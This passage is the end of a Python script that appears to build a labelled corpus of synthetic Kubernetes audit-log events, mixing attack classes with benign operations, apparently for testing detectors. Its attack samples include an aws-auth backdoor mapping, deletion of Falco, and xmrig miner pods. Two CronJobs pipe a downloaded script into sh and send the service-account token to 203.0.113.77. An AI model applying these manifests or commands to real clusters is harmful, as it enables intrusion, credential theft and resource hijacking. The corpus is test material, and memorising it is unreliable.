    ev(c, "ok-sa", "attack", A_CI, "create", "pods", "kube-system", None, code=201, body=pod("imp", "kube-system"),
       impersonated={"username": "system:serviceaccount:kube-system:daemon-set-controller", "groups": ["system:serviceaccounts", "system:authenticated"]})
    ev(c, "fail-404", "attack", A_CI, "get", "secrets", "kube-system", "nope", code=404, impersonated={"username": "admin", "groups": ["system:masters", "system:authenticated"]})
    # impersonation refused by the impersonation filter: no impersonatedUser, no decision annotation
    e_id = ev(c, "refused", "attack", A_SA, "list", "secrets", None, code=403, decision="forbid",
              reason_msg="users \"system:admin\" is forbidden: User \"system:serviceaccount:storefront:storefront-web\" cannot impersonate resource \"users\" in API group \"\" at the cluster scope")
    del files[c][-1]["annotations"]["authorization.k8s.io/decision"]
    del files[c][-1]["annotations"]["authorization.k8s.io/reason"]
    e_id = ev(c, "refused-group", "attack", A_USER, "get", "pods", "kube-system", None, code=403, decision="forbid",
              reason_msg="groups \"system:masters\" is forbidden: User \"bob@corp.example\" cannot impersonate resource \"groups\" in API group \"\" at the cluster scope")
    del files[c][-1]["annotations"]["authorization.k8s.io/decision"]
    del files[c][-1]["annotations"]["authorization.k8s.io/reason"]

    # 13 admission webhooks
    c = "admission-webhooks"
    mw = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1", "metadata": {"name": "pod-policy.corp.example"},
          "webhooks": [{"name": "pods.corp.example", "clientConfig": {"url": "https://203.0.113.50:8443/mutate"},
                        "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods", "secrets"]}],
                        "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"]}]}
    three(c, A_CI, A_SA, "create", "mutatingwebhookconfigurations", name="pod-policy.corp.example", body=mw, fails=(409,))
    ev(c, "ok-delete-validating", "attack", A_CI, "delete", "validatingwebhookconfigurations", None, "gatekeeper-validating-webhook-configuration", code=200)
    ev(c, "fail-404-delete", "attack", A_CI, "delete", "validatingwebhookconfigurations", None, "kyverno-resource-validating-webhook-cfg", code=404)
    ev(c, "refused-delete", "attack", A_USER, "delete", "validatingwebhookconfigurations", None, "gatekeeper-validating-webhook-configuration", code=403)

    # 14 events deletion
    c = "events-deleted"
    three(c, A_CI, A_SA, "deletecollection", "events", ns="kube-system", ok=200, fails=(500,))
    ev(c, "ok-delete", "attack", A_CI, "delete", "events", "payments", "payments-api-6f7d9-kx2lm.17a1b2c3d4e5f6a7", code=200)
    ev(c, "fail-404-delete", "attack", A_CI, "delete", "events", "payments", "payments-api-6f7d9-kx2lm.17a1b2c3d4e5f6a8", code=404)
    ev(c, "ok-events.k8s.io", "attack", A_CI, "deletecollection", "events", "storefront", code=200,
       uri="/apis/events.k8s.io/v1/namespaces/storefront/events")
    files[c][-1]["objectRef"]["apiGroup"] = "events.k8s.io"
    ev(c, "refused-delete", "attack", A_USER, "delete", "events", "kube-system", "kube-proxy-8m2kq.17a1b2c3d4e5f6a9", code=403)

    # 15 audit evasion / security tooling disabled
    c = "security-tooling-disabled"
    ev(c, "ok-delete-ds", "attack", A_CI, "delete", "daemonsets", "falco", "falco", code=200)
    ev(c, "ok-scale-0", "attack", A_CI, "patch", "deployments", "kir", "kir", "scale", code=200, body={"spec": {"replicas": 0}})
    ev(c, "ok-delete-ns", "attack", A_CI, "delete", "namespaces", None, "falco", code=200)
    ev(c, "fail-404", "attack", A_CI, "delete", "daemonsets", "falco", "falco-exporter", code=404)
    ev(c, "refused", "attack", A_USER, "delete", "daemonsets", "falco", "falco", code=403)

    # 16 configmap / secret write in kube-system
    c = "kube-system-config-write"
    aws = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "aws-auth", "namespace": "kube-system"},
           "data": {"mapRoles": "- rolearn: arn:aws:iam::123456789012:role/backdoor\n  username: backdoor\n  groups:\n  - system:masters\n"}}
    three(c, A_CI, A_SA, "update", "configmaps", ns="kube-system", name="aws-auth", body=aws, ok=200, fails=(409, 422))
    ev(c, "ok-patch-kube-proxy", "attack", A_CI, "patch", "configmaps", "kube-system", "kube-proxy", code=200,
       body={"data": {"config.conf": "apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nmode: ipvs\n"}})
    sec = {"kind": "Secret", "apiVersion": "v1", "metadata": {"name": "cloud-controller-creds", "namespace": "kube-system"}, "type": "Opaque",
           "data": {"key": "QUtJQUlPU0ZPRE5ON0VYQU1QTEU="}}
    ev(c, "ok-secret-update", "attack", A_CI, "update", "secrets", "kube-system", "cloud-controller-creds", code=200, body=sec)
    ev(c, "ok-secret-create", "attack", A_CI, "create", "secrets", "kube-system", "ops-backdoor", code=201, body=sec)
    ev(c, "refused-secret", "attack", A_USER, "patch", "secrets", "kube-system", "cloud-controller-creds", code=403)

    # 17 kube-system workload creation
    c = "kube-system-workload"
    for k in ["Pod", "Deployment", "DaemonSet", "CronJob"]:
        p = pod("kube-metrics-agent", "kube-system", image="registry.k8s.io/pause:3.9")
        body = p if k == "Pod" else workload(k, "kube-metrics-agent", "kube-system", p["spec"])
        res = KIND_INV[k]
        ev(c, f"ok-{k}", "attack", A_CI, "create", res, "kube-system", "kube-metrics-agent", code=201, body=body)
        ev(c, f"fail-409-{k}", "attack", A_CI, "create", res, "kube-system", "kube-metrics-agent", code=409, body=body)
        ev(c, f"refused-{k}", "attack", A_SA, "create", res, "kube-system", None, code=403)
    p = pod("dbg", "kube-system", sa_name="clusterrole-aggregation-controller")
    ev(c, "ok-pod-powerful-sa", "attack", A_CI, "create", "pods", "kube-system", "dbg", code=201, body=p)

    # 18 long-lived token secrets
    c = "long-lived-token"
    tok = {"kind": "Secret", "apiVersion": "v1", "type": "kubernetes.io/service-account-token",
           "metadata": {"name": "ci-deployer-token", "namespace": "ci", "annotations": {"kubernetes.io/service-account.name": "deployer"}}}
    three(c, A_CI, A_SA, "create", "secrets", ns="ci", name="ci-deployer-token", body=tok, fails=(409,))
    tok2 = copy.deepcopy(tok)
    tok2["metadata"].update({"name": "cra-token", "namespace": "kube-system",
                             "annotations": {"kubernetes.io/service-account.name": "clusterrole-aggregation-controller"}})
    ev(c, "ok-kube-system", "attack", A_CI, "create", "secrets", "kube-system", "cra-token", code=201, body=tok2)
    ev(c, "ok-metadata-level", "attack", A_CI, "create", "secrets", "kube-system", "cra-token-2", code=201, body=tok2, level="Metadata")

    # 19 anonymous access
    c = "anonymous"
    ev(c, "ok", "attack", A_ANON, "list", "pods", None, code=200)
    ev(c, "ok-secrets", "attack", A_ANON, "get", "secrets", "kube-system", "aws-credentials", code=200)
    ev(c, "fail-404", "attack", A_ANON, "get", "secrets", "kube-system", "nope", code=404)
    ev(c, "refused", "attack", A_ANON, "list", "secrets", None, code=403)
    ev(c, "refused-pods", "attack", A_ANON, "list", "pods", "kube-system", code=403)
    ev(c, "refused-create", "attack", A_ANON, "create", "pods", "default", None, code=403)

    # 20 discovery / enumeration
    c = "discovery"
    ssrr = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
            "spec": {"namespace": "kube-system"}, "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}}
    ev(c, "ok-ssrr", "attack", A_SA, "create", "selfsubjectrulesreviews", None, None, code=201, body=ssrr)
    for i, (res, verb) in enumerate([("secrets", "create"), ("pods", "create"), ("clusterrolebindings", "create"),
                                     ("pods/exec", "create"), ("nodes/proxy", "get"), ("serviceaccounts/token", "create")]):
        r, _, s = res.partition("/")
        ssar = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
                "spec": {"resourceAttributes": {"namespace": "kube-system", "verb": verb, "resource": r, "subresource": s}}, "status": {"allowed": False}}
        ev(c, f"ok-ssar-{i}", "attack", A_SA, "create", "selfsubjectaccessreviews", None, None, code=201, body=ssar, gap=1)
    for res in ["namespaces", "nodes", "clusterroles", "clusterrolebindings", "pods", "services", "deployments", "configmaps", "serviceaccounts", "rolebindings", "roles", "daemonsets"]:
        ev(c, f"ok-list-{res}", "attack", A_SA, "list", res, None, code=200, gap=1)
    for res in ["secrets", "nodes", "clusterrolebindings", "pods", "namespaces"]:
        ev(c, f"refused-list-{res}", "attack", A_USER, "list", res, None, code=403, gap=2)
    ev(c, "ok-user-list-crb", "attack", A_USER, "list", "clusterrolebindings", None, code=200, gap=2)

    # 21 crypto-miner images
    c = "cryptominer"
    mp = pod("kworker", "storefront", image="docker.io/xmrig/xmrig:6.21.0", args=["-o", "pool.supportxmr.com:443", "--tls"])
    three(c, A_SA, A_USER, "create", "pods", ns="storefront", name="kworker", body=mp, fails=(409,))
    md = workload("Deployment", "metrics-collector", "storefront",
                  pod("x", "storefront", image="ghcr.io/someone/kthreadd:latest", cmd=["/bin/sh", "-c"],
                      args=["./kthreadd -a rx/0 -o stratum+tcp://45.9.148.21:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k"])["spec"])
    ev(c, "ok-deploy-unknown-image", "attack", A_CI, "create", "deployments", "storefront", "metrics-collector", code=201, body=md)
    ev(c, "ok-image-only", "attack", A_CI, "create", "daemonsets", "storefront", "kube-helper", code=201,
       body=workload("DaemonSet", "kube-helper", "storefront", pod("x", "storefront", image="docker.io/metal3d/xmrig:latest")["spec"]))
    ev(c, "refused-deploy", "attack", A_SA, "create", "deployments", "storefront", None, code=403)
    ev(c, "ok-set-image", "attack", A_CI, "patch", "deployments", "storefront", "storefront-web", code=200,
       body={"spec": {"template": {"spec": {"containers": [{"name": "web", "image": "docker.io/xmrig/xmrig:6.21.0"}]}}}})

    # 22 NodePort / LoadBalancer exposure
    c = "service-exposure"
    np_ = {"kind": "Service", "apiVersion": "v1", "metadata": {"name": "pg-external", "namespace": "payments"},
           "spec": {"type": "NodePort", "selector": {"app": "postgres"}, "ports": [{"port": 5432, "targetPort": 5432, "nodePort": 30432}]}}
    three(c, A_CI, A_SA, "create", "services", ns="payments", name="pg-external", body=np_, fails=(409, 422))
    lb = copy.deepcopy(np_)
    lb["metadata"]["name"] = "pg-lb"
    lb["spec"]["type"] = "LoadBalancer"
    ev(c, "ok-lb", "attack", A_CI, "create", "services", "payments", "pg-lb", code=201, body=lb)
    ev(c, "ok-patch-to-nodeport", "attack", A_CI, "patch", "services", "payments", "postgres", code=200, body={"spec": {"type": "NodePort"}})
    ev(c, "ok-jsonpatch-to-lb", "attack", A_CI, "patch", "services", "payments", "postgres", code=200,
       body=[{"op": "replace", "path": "/spec/type", "value": "LoadBalancer"}])
    ev(c, "refused-lb", "attack", A_USER, "create", "services", "payments", None, code=403)

    # 23 network policy deletion
    c = "networkpolicy-deleted"
    three(c, A_CI, A_SA, "delete", "networkpolicies", ns="payments", name="default-deny", ok=200, fails=(404,))
    ev(c, "ok-deletecollection", "attack", A_CI, "deletecollection", "networkpolicies", "payments", code=200)
    ev(c, "ok-patch-open", "attack", A_CI, "patch", "networkpolicies", "payments", "default-deny", code=200,
       body={"spec": {"podSelector": {}, "ingress": [{}], "policyTypes": ["Ingress"]}})

    # 24 CronJob persistence
    c = "cronjob-persistence"
    cj = workload("CronJob", "log-rotate", "storefront",
                  pod("x", "storefront", image="alpine:3.19", cmd=["/bin/sh", "-c"],
                      args=["wget -qO- http://203.0.113.77/x.sh | sh"])["spec"])
    three(c, A_SA, A_USER, "create", "cronjobs", ns="storefront", name="log-rotate", body=cj, fails=(409,))
    cj2 = workload("CronJob", "backup", "kube-system", pod("x", "kube-system", image="bitnami/kubectl:1.30", cmd=["kubectl"],
                                                          args=["get", "secrets", "-A", "-o", "json"], sa_name="clusterrole-aggregation-controller")["spec"])
    ev(c, "ok-kube-system", "attack", A_CI, "create", "cronjobs", "kube-system", "backup", code=201, body=cj2)
    cj3 = workload("CronJob", "cleanup", "payments", pod("x", "payments", image="alpine:3.19", cmd=["/bin/sh", "-c"],
                                                         args=["apk add curl && curl -s http://203.0.113.77:8080/beacon -d \"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\""])["spec"])
    ev(c, "ok-exfil-beacon", "attack", A_SA, "create", "cronjobs", "payments", "cleanup", code=201, body=cj3)

    # 25 namespace deletion / impact
    c = "namespace-deleted"
    three(c, A_CI, A_USER, "delete", "namespaces", name="payments", ok=200, fails=(404, 409))
    ev(c, "ok-deletecollection-deploy", "attack", A_CI, "deletecollection", "deployments", "payments", code=200)
    ev(c, "ok-delete-pvc", "attack", A_CI, "deletecollection", "persistentvolumeclaims", "payments", code=200)

    # 26 hostPath PersistentVolume
    c = "hostpath-persistentvolume"
    pv = {"kind": "PersistentVolume", "apiVersion": "v1", "metadata": {"name": "scratch"},
          "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/", "type": ""},
                   "storageClassName": "manual", "claimRef": {"namespace": "storefront", "name": "scratch"}}}
    three(c, A_CI, A_SA, "create", "persistentvolumes", name="scratch", body=pv, fails=(409,))

    # 27 node object tampering (a node registered or changed by a non-node)
    c = "node-tamper"
    nd = {"kind": "Node", "apiVersion": "v1", "metadata": {"name": "node-1", "labels": {"node-role.kubernetes.io/control-plane": ""}}}
    ev(c, "ok-label-control-plane", "attack", A_CI, "patch", "nodes", None, "node-1", code=200,
       body={"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}})
    ev(c, "ok-create-node", "attack", A_CI, "create", "nodes", None, "rogue-node", code=201, body=dict(nd, metadata={"name": "rogue-node"}))
    ev(c, "refused-create-node", "attack", A_USER, "create", "nodes", None, None, code=403)


KIND_INV = {v: k for k, v in KIND.items()}


# =================================================================== benign neighbours
def benign():
    c = "benign-ops"
    b = lambda *a, **k: ev(c, "benign", "benign", *a, **k)
    ext = sa("external-secrets", "external-secrets", ua="external-secrets/v0.9.11")
    certm = sa("cert-manager", "cert-manager", ua="cert-manager-controller/v1.14.2")
    argocd = sa("argocd", "argocd-application-controller", ua="argocd-application-controller/v2.10.1")
    prom = sa("monitoring", "prometheus-k8s", ua="Prometheus/2.50.1")
    ci = sa("ci", "helm-deployer", ip="10.20.5.4", ua="Helm/3.14.2")
    rs = ctrl("replicaset-controller")
    ds = ctrl("daemon-set-controller")
    dep = ctrl("deployment-controller")
    job = ctrl("job-controller")
    cron = ctrl("cronjob-controller")
    nsc = ctrl("namespace-controller")
    gc = ctrl("generic-garbage-collector")
    # two hours of background: operators list/watch secrets cluster-wide every 5 minutes
    for i in range(24):
        b(ext, "list", "secrets", None, code=200, query="labelSelector=reconcile.external-secrets.io%2Fmanaged%3Dtrue", gap=150)
        b(certm, "watch", "secrets", None, code=200, gap=150, query="labelSelector=controller.cert-manager.io%2Ffao%3Dtrue")
        b(argocd, "list", "secrets", "payments", code=403, gap=1)
        if i % 3 == 0:
            b(prom, "list", "pods", None, code=200, gap=1)
            b(prom, "list", "nodes", None, code=200, gap=1)
            b(argocd, "patch", "deployments", "storefront", "storefront-web", code=200,
              body={"metadata": {"annotations": {"argocd.argoproj.io/tracking-id": "storefront:apps/Deployment:storefront/storefront-web"}}}, gap=1)
        if i % 6 == 0:
            # kubelet's own 500s and 404s
            b(NODE, "patch", "nodes", None, "node-1", "status", code=500, body={"status": {"conditions": []}},
              reason_msg="etcdserver: request timed out", gap=1)
            b(NODE, "create", "serviceaccounts", "storefront", "storefront-web", "token", code=500,
              body={"kind": "TokenRequest", "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607,
                                                     "boundObjectRef": {"kind": "Pod", "name": "storefront-web-7d9c8b6f5-x2x8k"}}},
              reason_msg="etcdserver: request timed out", gap=1)
            b(NODE, "get", "secrets", "storefront", "storefront-tls", code=404, gap=1)
            b(NODE, "get", "configmaps", "payments", "payments-config", code=500, reason_msg="etcdserver: leader changed", gap=1)
            b(NODE, "get", "pods", "storefront", "web-old", code=403, gap=1,
              reason_msg="pods \"web-old\" is forbidden: User \"system:node:node-1\" cannot get resource \"pods\" in API group \"\" in the namespace \"storefront\": no relationship found between node 'node-1' and this object")
    # a controller's normal work: deployment rollout, daemonset with privileged pods in kube-system, jobs from cronjobs
    b(ci, "patch", "deployments", "storefront", "storefront-web", code=200,
      body={"spec": {"template": {"spec": {"containers": [{"name": "web", "image": "registry.corp.example/storefront/web:1.8.3"}]}}}})
    b(dep, "create", "replicasets", "storefront", "storefront-web-5c6d7f8b9", code=201,
      body=workload("ReplicaSet", "storefront-web-5c6d7f8b9", "storefront", pod("x", "storefront", image="registry.corp.example/storefront/web:1.8.3")["spec"]))
    for i in range(3):
        b(rs, "create", "pods", "storefront", None, code=201, body=pod(f"storefront-web-5c6d7f8b9-{i}", "storefront", image="registry.corp.example/storefront/web:1.8.3"), gap=1)
    kp = pod("kube-proxy-abcde", "kube-system", image="registry.k8s.io/kube-proxy:v1.30.2", cont_extra=PRIV,
             spec_extra={"hostNetwork": True, "volumes": [{"name": "lib-modules", "hostPath": {"path": "/lib/modules"}},
                                                          {"name": "xtables-lock", "hostPath": {"path": "/run/xtables.lock", "type": "FileOrCreate"}}]})
    b(ds, "create", "pods", "kube-system", None, code=201, body=kp)
    b(ds, "create", "pods", "kube-system", None, code=500, body=kp, reason_msg="etcdserver: request timed out")
    b(cron, "create", "jobs", "payments", "nightly-report-29001234", code=201,
      body=workload("Job", "nightly-report-29001234", "payments", pod("x", "payments", image="registry.corp.example/payments/report:2.1")["spec"]))
    b(job, "create", "pods", "payments", None, code=201, body=pod("nightly-report-29001234-abcde", "payments", image="registry.corp.example/payments/report:2.1"))
    b(gc, "delete", "pods", "payments", "nightly-report-28999794-xyz12", code=200)
    b(gc, "delete", "jobs", "payments", "nightly-report-28999794", code=404)
    b(nsc, "deletecollection", "events", "preview-pr-4211", code=200)
    b(nsc, "deletecollection", "secrets", "preview-pr-4211", code=200)
    # a developer's single 403 and everyday work
    b(ALICE, "list", "secrets", "storefront", code=403)
    b(ALICE, "list", "pods", "storefront", code=200)
    b(ALICE, "get", "pods", "storefront", "storefront-web-5c6d7f8b9-0", "log", code=200, query="tailLines=20")
    b(ALICE, "create", "selfsubjectaccessreviews", None, None, code=201,
      body={"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": {"namespace": "storefront", "verb": "create", "resource": "deployments", "group": "apps"}}})
    b(ALICE, "create", "pods", "storefront", "storefront-web-5c6d7f8b9-0", "portforward", code=101, query="ports=8080")
    # an admin's normal exec in a dev namespace, reads of an app secret
    b(ADMIN, "create", "pods", "dev", "web-6b7c8d9f-abcde", "exec", code=101, query="command=sh&container=web&stdin=true&stdout=true&tty=true")
    b(ADMIN, "get", "secrets", "storefront", "storefront-db", code=200)
    b(ADMIN, "list", "pods", None, code=200)
    # helm deploys: secrets, configmaps, services, a cronjob, a rolebinding to view in a namespace
    b(ci, "create", "secrets", "storefront", "sh.helm.release.v1.storefront.v42", code=201,
      body={"kind": "Secret", "type": "helm.sh/release.v1", "metadata": {"name": "sh.helm.release.v1.storefront.v42", "namespace": "storefront"}})
    b(ci, "update", "configmaps", "storefront", "storefront-config", code=200,
      body={"kind": "ConfigMap", "metadata": {"name": "storefront-config", "namespace": "storefront"}, "data": {"LOG_LEVEL": "info"}})
    b(ci, "create", "services", "storefront", "storefront-web", code=201,
      body={"kind": "Service", "metadata": {"name": "storefront-web"}, "spec": {"type": "ClusterIP", "ports": [{"port": 80}]}})
    b(ci, "create", "cronjobs", "payments", "nightly-report", code=201,
      body=workload("CronJob", "nightly-report", "payments", pod("x", "payments", image="registry.corp.example/payments/report:2.1")["spec"]))
    b(ADMIN, "create", "rolebindings", "storefront", "carol-view", code=201,
      body={"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "view", "apiGroup": "rbac.authorization.k8s.io"},
            "subjects": [{"kind": "User", "name": "carol@corp.example"}]})
    b(ADMIN, "create", "rolebindings", "dev", "carol-edit", code=201,
      body={"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "edit", "apiGroup": "rbac.authorization.k8s.io"},
            "subjects": [{"kind": "User", "name": "carol@corp.example"}]})
    # cert-manager's cainjector keeps the caBundle of its webhook current
    b(sa("cert-manager", "cert-manager-cainjector", ua="cainjector/v1.14.2"), "patch", "validatingwebhookconfigurations", None,
      "cert-manager-webhook", code=200, body={"webhooks": [{"name": "webhook.cert-manager.io", "clientConfig": {"caBundle": "LS0tLS1CRUdJTi..."}}]})
    # kubectl auth can-i --list by a developer
    b(ALICE, "create", "selfsubjectrulesreviews", None, None, code=201,
      body={"kind": "SelfSubjectRulesReview", "spec": {"namespace": "storefront"}})
    # the kubelet's TokenRequests and secret reads
    b(NODE, "create", "serviceaccounts", "storefront", "storefront-web", "token", code=201,
      body={"kind": "TokenRequest", "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607,
                                             "boundObjectRef": {"kind": "Pod", "name": "storefront-web-5c6d7f8b9-0"}}})
    b(NODE, "list", "secrets", "storefront", code=200, query="fieldSelector=metadata.name%3Dstorefront-db&limit=500")
    # developer deletes own preview namespace; admin deletes a stale network policy in dev
    b(ALICE, "delete", "namespaces", None, "preview-pr-4211", code=200)
    b(ADMIN, "delete", "networkpolicies", "dev", "allow-old-frontend", code=200)
    # events cleanup by the namespace controller already above; a ingress-nginx LoadBalancer service by helm
    b(ci, "create", "services", "ingress-nginx", "ingress-nginx-controller", code=201,
      body={"kind": "Service", "metadata": {"name": "ingress-nginx-controller"}, "spec": {"type": "LoadBalancer", "ports": [{"port": 443}]}})
    # an operator installed by helm aggregates every verb on its own resources into admin
    b(ci, "create", "clusterroles", None, "strimzi-admin", code=201,
      body={"kind": "ClusterRole", "metadata": {"name": "strimzi-admin", "labels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}},
            "rules": [{"apiGroups": ["kafka.strimzi.io"], "resources": ["kafkas", "kafkatopics", "kafkausers"], "verbs": ["*"]}]})
    # a migration Job that talks to the API server with its own token
    b(ci, "create", "jobs", "storefront", "migrate-42", code=201,
      body=workload("Job", "migrate-42", "storefront", pod("x", "storefront", image="curlimages/curl:8.5.0", cmd=["sh", "-c"],
            args=['curl -sk -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api/v1/namespaces/storefront/configmaps'])["spec"]))
    # an admin tunes kube-proxy and looks at everything
    b(ADMIN, "patch", "configmaps", "kube-system", "kube-proxy", code=200, body={"data": {"config.conf": "mode: iptables"}})
    for res in ["pods", "replicationcontrollers", "services", "daemonsets", "deployments", "replicasets", "statefulsets",
                "horizontalpodautoscalers", "cronjobs", "jobs"]:
        b(ADMIN, "list", res, None, code=200, gap=1)
    # a dashboard checks what alice may do
    for verb in ["create", "delete", "update"]:
        b(ALICE, "create", "selfsubjectaccessreviews", None, None, code=201, gap=1,
          body={"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": {"namespace": "storefront", "verb": verb, "resource": "deployments", "group": "apps"}}})
    # kubelet refused by the node authorizer on several resources (pods it no longer runs)
    for res, nm in [("secrets", "old-db"), ("configmaps", "old-cfg"), ("persistentvolumeclaims", "old-data")]:
        b(NODE, "get", res, "storefront", nm, code=403, gap=1)
    # a local-path-provisioner volume
    b(sa("local-path-storage", "local-path-provisioner-service-account"), "create", "persistentvolumes", None, "pvc-0f1e2d3c", code=201,
      body={"kind": "PersistentVolume", "metadata": {"name": "pvc-0f1e2d3c"}, "spec": {"hostPath": {"path": "/opt/local-path-provisioner/pvc-0f1e2d3c_storefront_data", "type": "DirectoryOrCreate"}}})
    # helm upgrade of an add-on in kube-system reads its release secrets
    b(ADMIN, "list", "secrets", "kube-system", code=200, query="labelSelector=name%3Dmetrics-server%2Cowner%3Dhelm")
    # kubectl debug by an admin in a dev namespace (ephemeral container)
    b(ADMIN, "patch", "pods", "dev", "web-6b7c8d9f-abcde", "ephemeralcontainers", code=200,
      body={"spec": {"ephemeralContainers": [{"name": "debugger-abc12", "image": "busybox:1.36", "targetContainerName": "web"}]}})


classes()
benign()
os.makedirs(OUT, exist_ok=True)


def write_gz(path, events):
    with open(path, "wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=0, filename="") as f:
        for e in sorted(events, key=lambda e: e["requestReceivedTimestamp"]):
            f.write((json.dumps(e, separators=(",", ":")) + "\n").encode())


write_gz(f"{OUT}/{sys.argv[2]}.jsonl.gz", [e for evs in files.values() for e in evs])
if not NEUTRAL:
    write_gz(f"{OUT}/ordinary-operations.jsonl.gz", files["benign-ops"])
    with open(f"{OUT}/labels.tsv", "w") as f:
        f.write("auditID\tclass\tform\tkind\n")
        for l in labels:
            f.write("\t".join(l) + "\n")
print(len(labels), "events of", len(files), "classes in", OUT)
